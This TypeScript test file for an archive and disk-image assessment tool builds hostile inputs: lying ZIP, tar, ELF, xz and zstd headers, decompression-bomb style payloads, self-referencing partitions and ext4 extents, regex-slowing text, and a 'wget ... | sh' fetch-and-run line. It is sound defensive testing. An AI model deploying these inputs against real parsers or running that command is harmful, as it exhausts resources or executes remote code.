/**
 * Structures that lie about themselves: sizes beyond every disk, entries over one another, trees that point at themselves,
 * counts at their largest, and text that makes careless patterns slow. Each is told with its place, costs only itself and little time.
 */
import assert from 'node:assert/strict'
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { crc32, deflateRawSync, gzipSync } from 'node:zlib'
import type { Assessment } from '../src/assess/schema.ts'
import { files, mbr, newFolder, reviewed, tar } from './support/hostile.ts'
import { tool } from './support/real-tools.ts'

const huge = 2n ** 62n
const system = [{ name: 'etc/os-release', content: 'ID=debian\nVERSION_ID="12"\n' }, { name: 'etc/passwd', content: 'root:x:0:0:root:/root:/bin/sh\n' }]

/** Fields in little-endian order: `[bytes, value]`, or bytes as they are. */
function packed(...fields: readonly (readonly [bytes: 1 | 2 | 4 | 8, value: number | bigint] | Uint8Array | string)[]): Buffer {
  return Buffer.concat(fields.map((field) => {
    if (typeof field === 'string') return Buffer.from(field, 'latin1')
    if (field instanceof Uint8Array) return field
    const out = Buffer.alloc(8)
    out.writeBigUInt64LE(BigInt(field[1]))
    return out.subarray(0, field[0])
  }))
}

/** An archive of one file that says in its 64-bit fields that it is larger than every disk. */
function lyingZip(): Buffer {
  const content = deflateRawSync('root:x:0:0::/root:/bin/sh\n')
  const extra = packed([2, 1], [2, 16], [8, huge], [8, huge])
  const local = packed('PK\u0003\u0004', [2, 45], [2, 0], [2, 8], [4, 0], [4, 0], [4, 0xffffffff], [4, 0xffffffff], [2, 10], [2, 20], 'etc/passwd', extra, content)
  const entry = packed('PK\u0001\u0002', [2, 45], [2, 45], [2, 0], [2, 8], [4, 0], [4, 0], [4, 0xffffffff], [4, 0xffffffff], [2, 10], [2, 28], [2, 0], [2, 0], [2, 0], [4, 0], [4, 0xffffffff], 'etc/passwd', [2, 1], [2, 24], [8, huge], [8, huge], [8, huge])
  const end = packed('PK\u0006\u0006', [8, 44], [2, 45], [2, 45], [4, 0], [4, 0], [8, 2n ** 40n], [8, 2n ** 40n], [8, huge], [8, local.length])
  const locator = packed('PK\u0006\u0007', [4, 0], [8, local.length + entry.length], [4, 1])
  return Buffer.concat([local, entry, end, locator, packed('PK\u0005\u0006', [2, 0], [2, 0], [2, 0xffff], [2, 0xffff], [4, 0xffffffff], [4, 0xffffffff], [2, 0])])
}

/** Two thousand names for one and the same compressed megabyte. */
function overlappingZip(names = 2000): Buffer {
  const content = Buffer.alloc(1024 * 1024, 'password=7\n')
  const stored = deflateRawSync(content)
  const local = packed('PK\u0003\u0004', [2, 20], [2, 0], [2, 8], [4, 0], [4, crc32(content)], [4, stored.length], [4, content.length], [2, 6], [2, 0], 'f00000', stored)
  const central = Buffer.concat(Array.from({ length: names }, (_, index) =>
    packed('PK\u0001\u0002', [2, 20], [2, 20], [2, 0], [2, 8], [4, 0], [4, crc32(content)], [4, stored.length], [4, content.length], [2, 6], [2, 0], [2, 0], [2, 0], [2, 0], [4, 0], [4, 0], `f${String(index).padStart(5, '0')}`)))
  return Buffer.concat([local, central, packed('PK\u0005\u0006', [2, 0], [2, 0], [2, names], [2, names], [4, central.length], [4, local.length], [2, 0])])
}

/** A program of 65,535 sections and a dynamic segment of half the address space. */
function elf(): Buffer {
  const head = packed('\u007fELF\u0002\u0001\u0001', Buffer.alloc(9), [2, 3], [2, 183], [4, 1], [8, 0], [8, 64], [8, 120], [4, 0], [2, 64], [2, 56], [2, 1], [2, 64], [2, 65_535], [2, 1])
  const dynamic = packed([4, 2], [4, 4], [8, 64], [8, 64], [8, 64], [8, 2n ** 63n], [8, 2n ** 63n], [8, 1])
  return Buffer.concat([head, dynamic, ...Array.from({ length: 65_535 }, (_, index) => packed([4, 0xffffffff], [4, [2, 3, 6, 7, 11][index % 5] ?? 2], [8, 7], [8, 0], [8, 64], [8, 0x40000], [4, index + 1], [4, 0], [8, 1], [8, 1]))])
}

/** A header of pax records, and the file that they are about. */
const record = (key: string, value: string): string => {
  for (let length = key.length + value.length + 3; ; length++) if (`${length} ${key}=${value}\n`.length === length) return `${length} ${key}=${value}\n`
}
const member = (bytes: Buffer, type: string): Buffer => {
  bytes.write(`        ${type}`, 148)
  bytes.write(`${bytes.subarray(0, 512).reduce((sum, byte) => sum + byte, 0).toString(8).padStart(6, '0')}\0 `, 148)
  return bytes
}
const sparse = Buffer.concat([
  member(tar([{ name: 'pax', content: record('GNU.sparse.major', '1') + record('GNU.sparse.minor', '0') + record('GNU.sparse.name', 'etc/shadow') + record('GNU.sparse.realsize', String(2n ** 63n)) }]).subarray(0, 1024), 'x'),
  tar([{ name: 'x', content: '99999999\n0\n99999999999999999999\n'.padEnd(1024, '\0') }, ...system]),
])

/** An xz stream whose block asks for a dictionary of 4 GiB. */
const xz = Buffer.concat([Buffer.from('fd377a585a000004e6d6b446', 'hex'), ((block) => packed(block, [4, crc32(block)]))(Buffer.from('020021012800000000000000'.slice(0, 16), 'hex')), Buffer.alloc(64)])

const lies: Readonly<Record<string, { bytes: () => Uint8Array; code: string; path?: RegExp; says: RegExp }>> = {
  'size.zip': { bytes: lyingZip, code: 'malformed', says: /64-bit field holds/u },
  'overlap.zip': { bytes: overlappingZip, code: 'malformed', path: /zip/u, says: /overlaps another one/u },
  'sparse.tar': { bytes: () => sparse, code: 'malformed', path: /etc\/shadow/u, says: /realsize/u },
  'sections.tar': { bytes: () => tar([...system, { name: 'usr/local/bin/x', content: elf() }]), code: 'limit', path: /bin\/x/u, says: /dynamic section/u },
  'line.tar': { bytes: () => tar([...system, { name: 'var/lib/dpkg/status', content: `Package: a\nVersion: ${'1'.repeat(100_000_000)}\n` }]), code: 'limit', path: /dpkg\/status/u, says: /more than the \d+ that are read/u },
  'dictionary.xz': { bytes: () => xz, code: 'limit', path: /xz/u, says: /dictionary/u },
  'window.zst': { bytes: () => Buffer.from('28b52ffd00ff010000', 'hex'), code: 'limit', path: /zstd/u, says: /window/u },
  'name.cpio': { bytes: () => Buffer.from(`070701${'00000001'.repeat(2)}${'00000000'.repeat(9)}fffffff000000000`), code: 'malformed', says: /.../u },
  'kernel.tar': {
    bytes: () => tar([...system, { name: 'boot/vmlinuz', content: Buffer.concat([Buffer.alloc(56), Buffer.from('ARM\u0064'), Buffer.alloc(4096), Buffer.from('Linux version 6.1.0 (a@b) (gcc) #1 SMP\n\0IKCFG_ST'), gzipSync(Buffer.alloc(200_000_000, 'CONFIG_X=y\n'), { level: 9 }), Buffer.from('IKCFG_ED')]) }]),
    code: 'limit', path: /vmlinuz/u, says: /grows more than 250 times/u,
  },
  'chain.img': {
    // Each extended record leads to the next: no circle, and no end in sight.
    bytes: () => Buffer.concat([mbr([[5, 1, 3000]]), ...Array.from({ length: 3000 }, (_, index) => mbr([[0x83, 1, 1], [5, index + 1, 3000 - index]]))]),
    code: 'limit', says: /more than 256 logical partitions/u,
  },
}

test('structures that lie about themselves are told with their place, and cost little', async () => {
  const started = performance.now()
  const assessment = await reviewed(files(Object.fromEntries(Object.entries(lies).map(([name, { bytes }]) => [name, bytes()]))))
  assert.ok(performance.now() - started < 60_000)
  assert.equal(assessment.complete, false)
  for (const [name, { code, path = /(?:)/u, says }] of Object.entries(lies)) {
    const told = assessment.problems.filter((problem) => problem.incomplete && problem.where.artefact === name)
    assert.ok(told.some((problem) => problem.code === code && path.test(problem.where.path) && says.test(problem.message)), `${name}: ${JSON.stringify(told.slice(0, 3))}`)
  }
  assert.deepEqual(assessment.problems.filter(({ code }) => code === 'internal'), [])
})

/** Beginnings of what patterns look for, over and over: slow for whoever looks back at every one. */
const storms: Readonly<Record<string, string>> = {
  'opt/begin': '-----BEGIN '.repeat(400_000), 'opt/mail': 'a.a@a.'.repeat(700_000), 'opt/token': 'eyJ'.repeat(1_400_000), 'opt/address': 'http://a:'.repeat(450_000),
  'opt/secret.conf': 'password='.repeat(450_000), 'opt/id': 'AKIA'.repeat(1_000_000), 'opt/a.sh': `#!/bin/sh\n${'$('.repeat(500_000)}`, 'opt/b.sh': `#!/bin/sh\nwget http://x/${'a'.repeat(1_000_000)} | sh\n${'curl '.repeat(200_000)}`,
  'opt/a.py': `#!/usr/bin/python3\n${'("'.repeat(1_000_000)}`, 'var/log/a.log': `${'a@'.repeat(1_000_000)}${'1.'.repeat(1_000_000)}${'+1 '.repeat(500_000)}`,
  'etc/ssh/sshd_config': 'Include /etc/ssh/sshd_config\nInclude /etc/ssh/*\n'.repeat(2000), 'etc/nginx/nginx.conf': `include /etc/nginx/*.conf;\n${'http {'.repeat(100_000)}`,
  'etc/sudoers': '@include /etc/sudoers\n#includedir /etc\n'.repeat(2000), 'etc/systemd/system/a.service': `[Service]\nExecStart=/bin/sh -c ${'"'.repeat(300_000)}${'\\\n'.repeat(100_000)}`,
  'etc/ssl/a.pem': `-----BEGIN CERTIFICATE-----\n${'MIAwgDCA'.repeat(300_000)}\n-----END CERTIFICATE-----\n`,
}

test('text made for careless patterns, and files that include themselves, end in seconds', async () => {
  const started = performance.now()
  const assessment = await reviewed(files({ 'storm.tar': tar([...system, ...Object.entries(storms).map(([name, content]) => ({ name, content }))]) }))
  assert.ok(performance.now() - started < 60_000)
  assert.deepEqual(assessment.problems.filter(({ code, message }) => code === 'internal' || /given up|longer than/u.test(message)), [])
})

test('an ext4 file whose extents lead to themselves is told, and its neighbours are read', async (t) => {
  const image = join(newFolder(), 'extents.img')
  if (tool('mkfs.ext4', ['-q', '-O', '^has_journal,^metadata_csum', '-b', '1024', image, '4M'], '') === undefined) {
    t.skip('mkfs.ext4 is not installed')
    return
  }
  const [passwd = '', shadow = '', release = ''] = files({ passwd: 'root:x:0:0:root:/root:/bin/sh\n', shadow: 'root::1::::::\n', release: 'ID=debian\nVERSION_ID="12"\n' })
  for (const command of ['mkdir /etc', `write ${passwd} /etc/passwd`, `write ${shadow} /etc/shadow`, `write ${release} /etc/os-release`]) tool('debugfs', ['-w', '-R', command, image], '')
  const [, block = '0', offset = '0'] = /located at block (\d+), offset 0x([0-9a-f]+)/u.exec(String(tool('debugfs', ['-R', 'imap /etc/shadow', image], '') ?? '')) ?? []
  const bytes = readFileSync(image)
  const last = bytes.length / 1024 - 2
  const node = packed([2, 0xf30a], [2, 1], [2, 4], [2, 1], [4, 0], [4, 0], [4, last], [2, 0], [2, 0])
  node.copy(bytes, Number(block) * 1024 + Number.parseInt(offset, 16) + 40)
  node.copy(bytes, last * 1024)
  writeFileSync(image, bytes)
  const assessment: Assessment = await reviewed([image])
  assert.ok(assessment.problems.some(({ code, where, incomplete }) => code === 'malformed' && incomplete && where.path.endsWith('/etc/shadow')), JSON.stringify(assessment.problems))
  assert.deepEqual(assessment.problems.filter(({ where }) => where.path.endsWith('/etc/passwd')), [])
  // Whether a password is empty stands in the file that could not be read.
  for (const { check, result } of assessment.outcomes) if (check.startsWith('exposure/no-') && check.endsWith('-passwords')) assert.notEqual(result, 'pass', check)
})
